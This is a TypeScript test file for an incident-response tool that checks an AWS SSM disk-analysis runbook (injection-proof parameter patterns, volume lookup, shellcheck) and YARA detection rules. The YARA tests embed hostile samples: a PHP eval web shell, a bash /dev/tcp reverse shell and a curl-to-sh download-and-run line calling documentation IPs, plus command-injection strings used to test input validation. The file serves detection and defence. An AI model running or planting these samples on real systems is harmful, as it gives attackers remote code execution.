import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { z } from 'zod';
import { readSsmDocument } from '../../core/collect/ssm-document';
import { ext4Image } from '../support/disk-image';
import { testWith } from '../support/sleuth-kit';

const RUNBOOKS = join(__dirname, '..', '..', 'runbooks');
const SCRIPTS = ['analyse-disk.sh', 'attached-volumes.sh', 'disk-contents.sh', 'disk-places.sh'];

const document = z
  .object({
    schemaVersion: z.literal('2.2'),
    parameters: z.record(
      z.string(),
      z.object({ type: z.literal('String'), allowedPattern: z.string(), interpolationType: z.literal('ENV_VAR') }),
    ),
    mainSteps: z.tuple([
      z.object({ action: z.literal('aws:runShellScript'), inputs: z.object({ runCommand: z.array(z.string()) }) }),
    ]),
  })
  .parse(readSsmDocument(RUNBOOKS, 'ssm/analyse-disk.yaml'));
const script = document.mainSteps[0].inputs.runCommand.join('\n');

const GOOD: Readonly<Record<string, string>> = {
  Incident: 'IR-ABCD2345',
  Bucket: 'cordon-evidence-1',
  Prefix: 'incidents/IR-ABCD2345/derived/disk/',
  Volumes: '/dev/sdf=vol-0123456789abcdef0,/dev/sdg=vol-0fedcba9876543210',
  ToolsBucket: '',
};

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'cordon-document-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

describe('the command document Cordon-AnalyseDisk', () => {
  test('accepts what the workflow sends and nothing that a shell would read as code', () => {
    for (const [name, { allowedPattern }] of Object.entries(document.parameters)) {
      const pattern = new RegExp(allowedPattern);
      expect([name, pattern.test(GOOD[name] ?? 'missing')]).toEqual([name, true]);
      for (const bad of [`${GOOD[name]}'`, `${GOOD[name]};id`, `$(id)`, '`id`', `${GOOD[name]}\nid`, '../x', 'a b']) {
        expect([name, bad, pattern.test(bad)]).toEqual([name, bad, false]);
      }
    }
  });

  test('stays under the 64 KB of a command document', () => {
    expect(JSON.stringify(document).length).toBeLessThan(64 * 1024);
  });

  testWith(['fls', 'mkfs.ext4', 'blkid', 'debugfs'])('runs as one script, parts and all', () => {
    const image = join(folder, 'whole.raw');
    writeFileSync(image, ext4Image(folder, 'root', { files: { 'etc/passwd': 'root:x:0:0\n' } }));
    const whole = join(folder, 'document.sh');
    // What an old agent does: text for text. No volume named: the arguments of the command line are used.
    writeFileSync(
      whole,
      script.replace(/\{\{ (\w+) \}\}/g, (_, name) => (name === 'Volumes' ? '' : (GOOD[name] ?? ''))),
    );
    const ran = spawnSync('bash', [whole, join(folder, 'out'), image], { encoding: 'utf8' });
    expect([ran.status, ran.stderr]).toEqual([0, 'analyse-disk: read 1 of 1 places; the root is 1-whole (ext4)\n']);
    expect(readFileSync(join(folder, 'out', 'fls-r-p.txt'), 'utf8')).toContain('etc/passwd');
  });

  test('finds volumes by their id, in the order given, and names the one that is not there', () => {
    for (const [device, serial] of [
      ['nvme0n1', 'vol0aaaaaaaaaaaaaaaa'],
      ['nvme2n1', 'vol0123456789abcdef0 '],
      ['nvme1n1', 'vol0fedcba9876543210'],
    ] as const) {
      mkdirSync(join(folder, 'block', device, 'device'), { recursive: true });
      writeFileSync(join(folder, 'block', device, 'device', 'serial'), `${serial}\n`);
    }
    const env = { ...process.env, CORDON_SYSFS: folder, CORDON_ATTACH_SECONDS: '0', SSM_Volumes: '' };
    const source = `. ${join(RUNBOOKS, 'scripts', 'attached-volumes.sh')}; attached_volumes "$1"`;
    const ran = spawnSync('bash', ['-c', source, 'test', `${GOOD.Volumes},/dev/sdh=vol-0bad0bad0bad0bad0`], {
      encoding: 'utf8',
      env,
    });
    expect(ran.stdout).toBe('/dev/nvme2n1\n/dev/nvme1n1\n');
    expect(ran.stderr).toContain('vol-0bad0bad0bad0bad0 is not attached');
  });

  testWith(['shellcheck'])('passes shellcheck', () => {
    const files = SCRIPTS.map((name) => join(RUNBOOKS, 'scripts', name));
    expect(spawnSync('shellcheck', files, { encoding: 'utf8' }).stdout).toBe('');
  });
});

describe('the YARA rules', () => {
  const samples: readonly (readonly [string, string, string])[] = [
    ['web-shells', 'php_runs_request', '<?php @eval(base64_decode($_POST["c"])); ?>'],
    ['reverse-shells', 'reverse_shell_script', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n'],
    ['reverse-shells', 'download_and_run', '#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n'],
    ['miners', 'miner_binary', '\x7fELF\x02 stratum+tcp://pool.example:3333'],
  ];
  for (const [file, rule, content] of samples) {
    testWith(['yara'])(`${rule} finds its sample and not a plain script`, () => {
      writeFileSync(join(folder, 'sample'), content, 'latin1');
      writeFileSync(join(folder, 'plain'), '#!/bin/sh\ncurl https://example.com/ > page\n');
      const found = spawnSync('yara', [join(RUNBOOKS, 'yara', `${file}.yar`), folder], { encoding: 'utf8' });
      expect(found.stdout).toBe(`${rule} ${join(folder, 'sample')}\n`);
    });
  }
});
